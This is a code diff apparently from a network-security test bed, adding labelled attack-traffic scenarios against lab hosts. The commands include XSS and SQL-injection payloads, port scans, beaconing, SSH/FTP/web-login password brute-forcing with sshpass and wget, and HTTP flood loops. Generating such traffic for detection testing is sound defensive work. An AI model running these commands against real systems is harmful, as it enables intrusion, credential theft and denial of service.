@@ -91,7 +91,7 @@ export const attackVariants: readonly Scenario[] = [
   evil('xss_ffuf', xss('ffuf'), `ffuf -s -t 3 -p 0.2 -w xss.txt -u ${web}/search?q=FUZZ`, { path: near }),
   evil('xss_wfuzz', xss('wfuzz'), `wfuzz -t 3 -z file,xss.txt ${web}/search?q=FUZZ`),
   evil('xss_curl', xss('curl'), loop(`curl -s -G --data-urlencode "q=<script>alert($RANDOM)</script>" ${web}/search -o /dev/null; sleep 0.0$((RANDOM % 9))`), { path: near }), // prettier-ignore
-  evil('scan_pnscan', scan('pnscan', nginx), `pnscan -n 30 ${nginx}/32 1:800`, half),
+  evil('scan_pnscan', scan('pnscan', nginx), `pnscan -n 30 ${nginx}:${nginx} 1:800`, half),
   evil('scan_python', scan('scan.py script', app), python('scan', 14, 27, app), { seconds: 14 }),
   evil('scan_python_far', scan('scan.py script', plain), python('scan', 14, 28, plain), { seconds: 14, path: far }),
   evil('scan_nmap_far', scan('nmap', nginx), `nmap -n -Pn -sS -T3 --top-ports 250 ${nginx}`, {
@@ -101,4 +101,19 @@ export const attackVariants: readonly Scenario[] = [
   evil('scan_masscan_apache', scan('masscan', apache), `masscan -p 1-900 --rate 400 --wait 2 --interface eth0 --router-mac $SERVER_MAC ${apache}`, { seconds: 12 }), // prettier-ignore
   evil('beacon_python', facts('beacon', 'http', 'beacon.py script', app), python('beacon', 40, 29, app, 8000), { seconds: 40 }), // prettier-ignore
   evil('beacon_curl', facts('beacon', 'http', 'curl', app), loop(`curl -s -A 'Mozilla/4.0' -d id=$RANDOM$RANDOM$RANDOM ${web}/api?n=1 -o /dev/null; sleep 2`), { seconds: 40 }), // prettier-ignore
+  evil('ssh_sftp', ssh('sftp script', nginx), loop(`sshpass -p word$i sftp ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 root@${nginx} </dev/null`)), // prettier-ignore
+  evil('ssh_scp_dropbear', ssh('scp script', app), loop(`sshpass -p word$i scp -O ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=2 root@${app}:/etc/hostname got`), { path: near }), // prettier-ignore
+  evil('ssh_rsync_far', ssh('rsync script', nginx), loop(`sshpass -p word$i rsync -e 'ssh ${sshOptions} -o PreferredAuthentications=password -o NumberOfPasswordPrompts=3' root@${nginx}:/etc/hostname got`), { path: far }), // prettier-ignore
+  evil(
+    'ftp_wget',
+    ftp('wget', nginx),
+    loop(`wget -q -t 1 -O /dev/null --user=backup --password=word$i ftp://${nginx}/`),
+  ),
+  evil('form_wget', form('wget', app), loop(`wget -q -t 1 -O /dev/null --post-data "user=admin&password=word$RANDOM" ${web}/login`), { path: near }), // prettier-ignore
+  evil('basic_wget', form('wget', nginx), loop(`wget -q -t 1 -O /dev/null --auth-no-challenge --user=admin --password=word$RANDOM http://${nginx}/basic/`)), // prettier-ignore
+  evil('sqli_wget', sqli('wget'), loop(`wget -q -t 1 -O /dev/null "${web}/item?id=$i'%20union%20select%20$RANDOM,user(),3--%20"; sleep 0.0$((RANDOM % 9))`)), // prettier-ignore
+  evil('xss_wget', xss('wget'), loop(`wget -q -t 1 -O /dev/null "${web}/search?q=%3Cscript%3Ealert($RANDOM)%3C/script%3E"; sleep 0.0$((RANDOM % 9))`), { path: near }), // prettier-ignore
+  evil('flood_wget', flood('wget', nginx), `for n in $(seq 12); do (${loop(`wget -q -t 1 -O /dev/null "http://${nginx}/p3.html?$RANDOM"`)}) & done; wait`, half), // prettier-ignore
+  evil('flood_wget_app', flood('wget', app), `for n in $(seq 12); do (${loop(`wget -q -t 1 -O /dev/null "${web}/search?q=$RANDOM"`)}) & done; wait`, { ...half, path: near }), // prettier-ignore
+  evil('flood_loic_apache', flood('loic-like script', apache), python('loic', 12, 31, apache), { ...half, path: far }),
 ];
